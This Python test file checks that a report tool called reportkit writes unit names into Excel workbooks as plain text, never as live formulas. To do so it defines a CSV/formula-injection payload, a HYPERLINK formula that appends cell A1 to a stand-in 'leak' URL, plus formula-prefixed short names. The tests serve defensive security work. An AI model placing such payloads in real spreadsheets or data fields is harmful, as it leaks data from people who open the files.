"""Text from data never becomes a formula in any workbook reportkit writes: the annex, the
province annex, entry forms and workbooks from `template render`."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import openpyxl

SAMPLES = Path(__file__).parents[2] / "samples"
ATTACK = '=HYPERLINK("http://example.invalid/?leak="&A1,"bấm vào đây")'
SHORT_NAMES = ["+1+1", "-2+3", "@SUM(1)"]


def with_unit_name(text: str, name: str, short_name: str) -> str:
    """The sample with its unit's name and short name replaced (YAML single-quoted)."""
    text = re.sub(r"(?m)^  name: .*$", "  name: '" + name.replace("'", "''") + "'", text, count=1)
    return re.sub(r"(?m)^  short_name: .*$", f"  short_name: '{short_name}'", text, count=1)


def assert_no_formula_from_data(path: Path) -> None:
    """No formula holds the attack, and the attack is there as text a person sees."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                formulas = re.findall(r"<f[^>]*>(.*?)</f>", package.read(name).decode())
                assert not [f for f in formulas if "HYPERLINK" in f or "SUM(1)" in f], name
    book = openpyxl.load_workbook(path)
    texts = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert texts, f"{path.name}: the name is not shown at all"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    assert cell.data_type == "s", f"{sheet.title}!{cell.coordinate}"


def test_the_annex_shows_a_formula_like_unit_name_as_text(workspace):
    text = (SAMPLES / "thanh-hoa-2025.yaml").read_text(encoding="utf-8")
    workspace.write("unit.yaml", with_unit_name(text, ATTACK, SHORT_NAMES[0]))
    run = workspace.run("render", "unit.yaml", "-o", "out")
    assert run.returncode == 0, str(run)
    [annex] = workspace.out.glob("*.xlsx")
    assert_no_formula_from_data(annex)


def test_template_render_writes_data_as_text(workspace):
    book = openpyxl.Workbook()
    book.active["A1"] = "{{ unit.name }}"
    book.active["A2"] = "{{ unit.short_name }}"
    book.save(workspace.path("t.xlsx"))
    text = (SAMPLES / "thanh-hoa-2025.yaml").read_text(encoding="utf-8")
    workspace.write("unit.yaml", with_unit_name(text, ATTACK, SHORT_NAMES[1]))
    run = workspace.run("template", "render", "t.xlsx", "unit.yaml", "-o", "out/x.xlsx")
    assert run.returncode == 0, str(run)
    assert_no_formula_from_data(workspace.out / "x.xlsx")
    assert openpyxl.load_workbook(workspace.out / "x.xlsx").active["A2"].value == SHORT_NAMES[1]


def test_an_entry_form_shows_a_formula_like_unit_name_as_text(workspace):
    workspace.write(
        "units.yaml",
        "units:\n  - code: x\n    name: '" + ATTACK.replace("'", "''") + "'\n"
        "    short_name: '@SUM(1)'\n    level: tinh\n    province: Thanh Hóa\n",
    )
    run = workspace.run("form", "--year", "2025", "--units", "units.yaml", "-o", "out")
    assert run.returncode == 0, str(run)
    [form] = workspace.out.glob("*.xlsx")
    assert_no_formula_from_data(form)


def test_the_province_annex_shows_formula_like_unit_names_as_text(workspace):
    folder = workspace.path("in")
    folder.mkdir()
    shutil.copy(SAMPLES / "thanh-hoa-khu-vuc" / "province.yaml", folder)
    for number in ("01", "02"):
        source = SAMPLES / "thanh-hoa-khu-vuc" / f"khu-vuc-{number}.yaml"
        text = source.read_text(encoding="utf-8")
        named = with_unit_name(text, ATTACK + number, ATTACK + number)
        (folder / source.name).write_text(named, encoding="utf-8")
    run = workspace.run("batch", "in", "-o", "out", "-j", "1")
    assert run.returncode in (0, 1), str(run)
    [province] = workspace.out.glob("phu-luc-tong-hop-*.xlsx")
    assert_no_formula_from_data(province)
